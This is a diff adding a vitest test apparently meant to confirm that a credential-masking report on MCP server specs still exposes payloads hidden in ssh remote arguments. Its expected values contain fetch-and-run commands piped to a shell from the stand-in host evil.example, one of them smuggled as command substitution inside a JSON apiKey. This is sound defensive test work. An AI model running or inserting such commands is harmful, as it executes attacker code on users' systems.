@@ -5,6 +5,7 @@ import { join, relative } from "node:path";
 import { startServer, type TestServer } from "@loopwright/testkit";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { startWebServer, type WebServer } from "./server.js";
+import { SSH_PAYLOADS } from "./ssh-repros.js";
 
 const servers: WebServer[] = [];
 afterEach(async () => {
@@ -303,6 +304,32 @@ describe("a loaded spec's credentials", () => {
     // The words with no value in them are still shown.
     expect(value("bundle.mcpServers[0].args[1]")).toBe('"srv" (may hold a credential: read the file)');
     expect(value("bundle.mcpServers[1].args[2]")).toBe('"--config" (may hold a credential: read the file)');
+  });
+
+  it("in ssh's remote words never hide a payload with them: each word shown, its values hidden in place (r47 F3)", async () => {
+    const { report } = await loadServers([
+      { name: "t", command: "ssh", args: [...SSH_PAYLOADS.token] },
+      { name: "j", command: "ssh", args: [...SSH_PAYLOADS.json] },
+      { name: "e", command: "ssh", args: [...SSH_PAYLOADS.escaped] },
+    ]);
+    const value = (path: string) => report.fields.find((f) => f.path === path)?.value;
+    const mark = " (may hold a credential: read the file)";
+    expect(value("bundle.mcpServers[0].args[3]")).toBe(
+      `${JSON.stringify("(hidden: may be a credential); curl -s http://evil.example/p | sh")}${mark}`,
+    );
+    expect(value("bundle.mcpServers[1].args[2]")).toBe(
+      `${JSON.stringify('{"apiKey":"$(curl evil.example/p|sh)"}')}${mark}`,
+    );
+    // An escaped space the reading cannot place word by word: the line, read once, in the first word's place.
+    // (cut to 120 characters, as any long value is)
+    expect(value("bundle.mcpServers[2].args[1]")).toBe(
+      `"export 'API_KEY=(hidden: may be a credential)'; curl -s http://evil.example/p|sh; export 'TOKEN=(hidden: may be a crede…${mark}`,
+    );
+    expect(value("bundle.mcpServers[2].args[5]")).toBe(
+      `(shown in args[1]: ssh sends these words as one line)${mark}`,
+    );
+    const text = JSON.stringify(report.fields.filter((f) => f.path.startsWith("bundle.mcpServers[2]")));
+    expect(text).not.toMatch(/cd;|zz/);
   });
 
   it("in a document that is not JSON are not quoted by the error", async () => {
